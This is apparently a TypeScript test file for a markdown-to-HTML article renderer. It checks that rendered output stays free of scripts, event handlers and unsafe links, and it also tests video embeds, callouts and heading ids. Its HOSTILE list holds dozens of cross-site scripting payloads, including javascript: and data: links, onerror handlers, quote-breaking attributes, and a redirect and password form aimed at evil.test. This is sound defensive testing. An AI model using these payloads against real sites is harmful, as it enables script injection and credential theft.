import fc from 'fast-check'
import { articleHtml } from './article-html.ts'

const html = (markdown: string): string => articleHtml(markdown).html

/** Elements that the page may show, with attributes that only name, size or link. */
const ALLOWED =
  /^<\/?(?:p|h[2-6]|ul|ol|li|blockquote|div|table|thead|tbody|tr|t[dh]|strong|em|s|sup|a|img|code|pre|hr|br|iframe|video)\b/
const HANDLER = /<[^>]*\son\w+\s*=/i
const unquoted = (tag: string): string => tag.replaceAll(/"[^"]*"/g, '""')
const BAD_ADDRESS = /<[^>]*\s(?:href|src)="\s*(?:javascript|data|vbscript|file|blob)/i

function dangersIn(written: string): string[] {
  const tags = written.match(/<[a-z/!?][^>]*>/gi) ?? []
  return tags.filter(
    (tag) =>
      !ALLOWED.test(tag) || HANDLER.test(unquoted(tag)) || BAD_ADDRESS.test(tag) || /\sstyle=/i.test(unquoted(tag)),
  )
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#x6a;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x" onerror="alert(1)](https://a.test/x.png)',
  '![x](https://a.test/x.png?cw_image_height=24px" onload="alert(1))',
  '[x](https://a.test/" onmouseover="alert(1))',
  '<https://a.test/"onclick=alert(1)>',
  '```html"><script>alert(1)</script>\nx\n```',
  '`</code><script>alert(1)</script>`',
  '|a|b|\n|:-:|--:|\n|<script>|[x](javascript:1)|',
  '# <img src=x onerror=alert(1)>',
  '## " onclick="alert(1)',
  '> [!NOTE" onclick="alert(1)]\n> x',
  '> [!WARNING]\n> <script>alert(1)</script>',
  '^<script>alert(1)</script>^',
  'https://www.youtube.com/embed/"><script>',
  'https://www.youtube.com.evil.test/watch?v=abcdefghijk',
  'https://youtube.com@evil.test/watch?v=abcdefghijk',
  'https://evil.test/x.mp4?"><script>',
  'javascript://youtu.be/abcdefghijk%0aalert(1)',
  '<!-- --><style>*{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<math><mi xlink:href="javascript:alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\0<scr\0ipt>alert(1)</script>',
  '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test">',
  '<form action="https://evil.test"><input name=password></form>',
]

test.each(HOSTILE)('nothing acts in %p', (markdown) => {
  expect(dangersIn(html(markdown))).toEqual([])
})

test('pieces of attacks put together at random leave nothing either', () => {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom('> ', '- ', '\n\n', '|', '`', '^', '"', '<', '['),
    fc.string(),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      expect(dangersIn(html(pieces.join('')))).toEqual([])
    }),
    { numRuns: 300, seed: 20261123 },
  )
})

test.each([
  ['https://www.youtube.com/watch?v=dQw4w9WgXcQ', 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ'],
  ['https://youtu.be/dQw4w9WgXcQ', 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ'],
  ['https://vimeo.com/76979871', 'https://player.vimeo.com/video/76979871'],
  [
    'https://www.loom.com/share/0281766fa2d04bb788eaf19e65135184',
    'https://www.loom.com/embed/0281766fa2d04bb788eaf19e65135184',
  ],
  ['https://home.wistia.com/medias/e4a27b971d', 'https://fast.wistia.net/embed/iframe/e4a27b971d'],
  [
    'https://iframe.mediadelivery.net/play/759/eb1c4f77-0cda',
    'https://iframe.mediadelivery.net/embed/759/eb1c4f77-0cda',
  ],
  ['https://app.arcade.software/share/Yk1Vb2abcd12', 'https://demo.arcade.software/Yk1Vb2abcd12?embed'],
  ['https://codepen.io/team/pen/gOqzXBd', 'https://codepen.io/team/embed/gOqzXBd'],
  ['https://gist.github.com/octocat/6cad326836d38bd3a7ae', 'https://gist.github.com/octocat/6cad326836d38bd3a7ae.pibb'],
])('%s alone in its paragraph is its player', (address, player) => {
  expect(html(`Before\n\n${address}\n\nAfter`)).toContain(`<iframe class="embed" src="${player}"`)
  expect(html(`See ${address} for more`)).not.toContain('<iframe')
})

describe('an article', () => {
  test('shows films, pictures of a chosen height, superscripts, callouts and tables', () => {
    expect(html('https://a.test/film.mp4')).toContain('<video class="embed" src="https://a.test/film.mp4" controls')
    expect(html('![Key](https://a.test/k.png?cw_image_height=24px)')).toContain('alt="Key" height="24"')
    expect(html('10 m^2^')).toContain('10 m<sup>2</sup>')
    expect(html('> [!WARNING]\n> Do not open.')).toBe(
      '<div class="callout callout-warning" dir="auto">\n<p dir="auto">Do not open.</p>\n</div>',
    )
    expect(html('|a|\n|--:|\n|1|')).toContain('<td class="side-right" dir="auto">1</td>')
  })

  test('lists its headings, each with an address of its own', () => {
    const { html: written, headings } = articleHtml('# Top\n\n## Same\n\n### Deep *one*\n\n## Same\n\n#### Deeper')
    expect(headings).toEqual([
      { id: 's-top', text: 'Top', level: 2 },
      { id: 's-same', text: 'Same', level: 2 },
      { id: 's-deep-one', text: 'Deep one', level: 3 },
      { id: 's-same-2', text: 'Same', level: 2 },
    ])
    expect(written).toContain('<h2 id="s-same-2" dir="auto">Same</h2>')
  })
})
